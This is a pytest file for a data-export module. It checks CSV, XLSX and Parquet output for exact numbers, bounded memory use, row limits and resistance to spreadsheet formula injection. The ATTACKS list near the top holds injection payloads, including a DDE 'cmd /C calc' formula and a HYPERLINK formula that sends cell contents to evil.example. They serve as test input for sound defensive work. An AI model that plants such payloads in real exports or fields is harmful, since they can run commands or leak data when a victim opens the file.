"""Files of exports: every digit is there, no text is more than a text, and a long file takes no more memory."""

from __future__ import annotations

import csv
import json
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from command_line import export_files
from command_line.export_files import XLSX_ROWS_MAX, check_rows, write
from command_line.export_text import csv_text, one_line, original
from domain.cost_metric import CostMetric
from domain.errors import BadInput
from domain.export import ExportFormat, ExportKind
from views.export_tables import Column, Kind, Row, columns_of

ATTACKS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "-1.50",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "－1",
    "'=1+1",
    "''",
    "a;=1+1",
    'a",=1+1',
    "a\r\n=1+1",
    "a\u2028=1+1",
    "http://evil.example",
    "mailto:a@evil.example",
    "internal:'Export'!A1",
    "{=1+1}",
    'DDE("cmd";"/C calc")',
    "back\\slash \\n",
    "_x003D_1+1",
    "\x1b[31mred\x00",
    "\u202etxt.exe",
    "000123456789",
    "1E5",
    "TRUE",
    "Café ☕ 👩\u200d💻",
)
COLUMNS = (
    Column("name", "Name", Kind.TEXT),
    Column("level", "Level", Kind.WHOLE),
    Column("day", "Day", Kind.DAY),
    Column("annual", "Annual", Kind.BUDGET),
    Column("actual", "Actual", Kind.COST),
)
AMOUNT = Decimal("-1234567890.123456789012345678")
ABOUT = {"total": "-1.50", "what": "=1+1"}


def rows(*names: str) -> list[Row]:
    return [(name, 4, date(2026, 5, 3), Decimal("1200.00"), AMOUNT) for name in names]


def written(folder: Path, chosen: ExportFormat, batches: Sequence[list[Row]]) -> Path:
    path = folder / f"export.{chosen}"
    beside = folder / "about.json"
    made = write(path, beside, chosen, COLUMNS, iter(batches), "USD", lambda: ABOUT)
    assert made == ((path, beside) if chosen is ExportFormat.CSV else (path,))
    return path


def test_a_csv_file_is_what_it_looks_like(tmp_path: Path) -> None:
    path = written(tmp_path, ExportFormat.CSV, [rows("Web"), [("", 0, date(2026, 5, 4), None, Decimal("0.00"))]])
    assert path.read_bytes() == (
        b"name,level,day,annual,actual\r\n"
        b'"Web",4,2026-05-03,1200.00,-1234567890.123456789012345678\r\n'
        b",0,2026-05-04,,0.00\r\n"
    )
    assert json.loads((tmp_path / "about.json").read_text()) == ABOUT


def test_no_text_of_a_csv_file_begins_a_formula_and_every_text_comes_back(tmp_path: Path) -> None:
    path = written(tmp_path, ExportFormat.CSV, [rows(*ATTACKS)])
    raw = path.read_bytes().decode()
    assert len(raw.splitlines()) == len(ATTACKS) + 1, "a row is a line, for readers that know no quotes, too"
    with path.open(encoding="utf-8", newline="") as file:
        cells = [row[0] for row in list(csv.reader(file))[1:]]
    assert [original(cell) for cell in cells] == list(ATTACKS)
    for attack, cell, line in zip(ATTACKS, cells, raw.splitlines()[1:], strict=True):
        assert cell.lstrip()[0] not in "=+-@\t\r＝＋－＠", attack
        assert line.startswith('"'), "no separator of any country splits what stands in quotes"
        assert line.endswith(",4,2026-05-03,1200.00,-1234567890.123456789012345678"), "a negative number stays a number"


@given(st.text(max_size=20))
def test_any_text_comes_back_from_csv(text: str) -> None:
    (read,) = csv.reader([csv_text(text)])
    assert [original(read[0])] == [text]
    assert len(csv_text(text).splitlines()) == 1
    assert not read[0].lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_workbook_has_texts_numbers_and_days_and_nothing_that_calculates_or_leads_elsewhere(tmp_path: Path) -> None:
    path = written(tmp_path, ExportFormat.XLSX, [rows(*ATTACKS)])
    book = openpyxl.load_workbook(path)
    sheet, about = book["Export"], book["About"]
    assert [cell.value for cell in sheet[1]] == ["Name", "Level", "Day", "Annual", "Actual", "Actual (exact)"]
    for attack, cells in zip(ATTACKS, sheet.iter_rows(min_row=2), strict=True):
        name, level, day, annual, actual, exact = cells
        assert {cell.data_type for cell in (level, annual, actual)} == {"n"}
        assert {cell.data_type for cell in (name, exact)} <= {"s", "inlineStr"}, attack
        assert all(cell.hyperlink is None for cell in cells)
        assert (level.value, annual.value, actual.value, exact.value) == (4, 1200, -1234567890.12, str(AMOUNT))
        assert day.value == datetime(2026, 5, 3)  # noqa: DTZ001 - a day of a workbook has no time zone
        assert str(name.value).replace("_x005F_", "_") == one_line(attack)
        if attack.strip().startswith(("=", "+", "-", "@")):
            assert name.quotePrefix, "not even when somebody edits the cell"
    assert [tuple(cell.value for cell in row) for row in about.iter_rows()] == [("What", "Value"), *ABOUT.items()]
    with zipfile.ZipFile(path) as parts:
        texts = {name: parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels"))}
    assert not any("<f>" in text or "<f " in text or "<hyperlink" in text for text in texts.values())
    assert not any('TargetMode="External"' in text for text in texts.values())
    assert not any("externalLink" in name for name in texts)


def test_a_parquet_file_has_every_text_and_every_digit(tmp_path: Path) -> None:
    path = written(tmp_path, ExportFormat.PARQUET, [rows(*ATTACKS), rows("Web")])
    table = pq.read_table(path)
    assert table.schema.field("actual").type == pa.decimal128(38, 18)
    assert table.column("name").to_pylist() == [*ATTACKS, "Web"]
    assert set(table.column("actual").to_pylist()) == {AMOUNT}
    assert set(table.column("day").to_pylist()) == {date(2026, 5, 3)}
    metadata = pq.read_metadata(path).metadata
    assert metadata is not None
    assert metadata[b"allot.total"] == b"-1.50"


def test_an_empty_export_has_its_columns(tmp_path: Path) -> None:
    assert written(tmp_path, ExportFormat.CSV, []).read_text().splitlines() == ["name,level,day,annual,actual"]
    assert pq.read_table(written(tmp_path, ExportFormat.PARQUET, [])).column_names == [c.name for c in COLUMNS]
    assert openpyxl.load_workbook(written(tmp_path, ExportFormat.XLSX, []))["Export"].max_row == 1


def test_a_number_that_a_workbook_cannot_hold_is_a_text_with_all_digits(tmp_path: Path) -> None:
    large = Decimal("12345678901234567.89")
    path = written(tmp_path, ExportFormat.XLSX, [[("x", 0, date(2026, 1, 1), large, Decimal("0.005"))]])
    cells = [cell.value for cell in openpyxl.load_workbook(path)["Export"][2]]
    assert cells[3:] == [str(large), 0, "0.005"]


def test_a_worksheet_is_full_at_its_last_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    check_rows(XLSX_ROWS_MAX, ExportFormat.XLSX)
    check_rows(XLSX_ROWS_MAX + 1, ExportFormat.CSV)
    with pytest.raises(
        BadInput, match="1,048,576 rows, and a worksheet has room for 1,048,575: take --format csv"
    ) as full:
        check_rows(XLSX_ROWS_MAX + 1, ExportFormat.XLSX)
    assert full.value.code == "TooManyRows"
    monkeypatch.setattr(export_files, "XLSX_ROWS_MAX", 3)
    written(tmp_path, ExportFormat.XLSX, [rows("a", "b", "c")])
    with pytest.raises(BadInput, match="room for 3"):
        written(tmp_path, ExportFormat.XLSX, [rows("a", "b", "c", "d")])


def test_columns_bear_the_organizations_own_words() -> None:
    labels = ("Sector", "Division", "Suite", "Service")
    titles = [column.title for column in columns_of(ExportKind.DAILY, labels, CostMetric.NET_AMORTIZED)]
    assert titles[2:7] == ["Node", *labels]
    assert titles[-2:] == ["Net amortized cost", "Currency"]


BATCH = 5_000
ROW_BYTES_MIN = 300
"""What a row takes in memory, at the least."""


def many(count: int) -> Iterator[list[Row]]:
    for first in range(0, count, BATCH):
        numbers = range(first, first + BATCH)
        yield [(f"Retail/Product {n}", n, date(2026, 5, 3), Decimal(n), AMOUNT + n) for n in numbers]


def memory(work: Callable[[], object]) -> int:
    """Bytes that it takes at its peak."""
    tracemalloc.start()
    before = pa.default_memory_pool().max_memory() or 0
    work()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak + (pa.default_memory_pool().max_memory() or 0) - before


@pytest.mark.slow
@pytest.mark.parametrize(
    ("chosen", "count"), [(ExportFormat.CSV, 100_000), (ExportFormat.PARQUET, 100_000), (ExportFormat.XLSX, 25_000)]
)
def test_a_long_file_takes_the_memory_of_some_batches(tmp_path: Path, chosen: ExportFormat, count: int) -> None:
    """A workbook takes so long while its memory is watched that fewer rows have to do."""
    written(tmp_path, chosen, [rows("Web")])  # loads what is loaded once
    path = tmp_path / f"long.{chosen}"
    taken = memory(lambda: write(path, tmp_path / "long.json", chosen, COLUMNS, many(count), "USD", lambda: ABOUT))
    limit = count * ROW_BYTES_MIN
    assert taken < limit
    assert memory(lambda: list(many(count))) > limit, "the control: what a writer that keeps all would take"
    if chosen is ExportFormat.PARQUET:
        metadata = pq.read_metadata(path)
        assert (metadata.num_rows, metadata.num_row_groups) == (count, count // export_files.PARQUET_GROUP_ROWS)
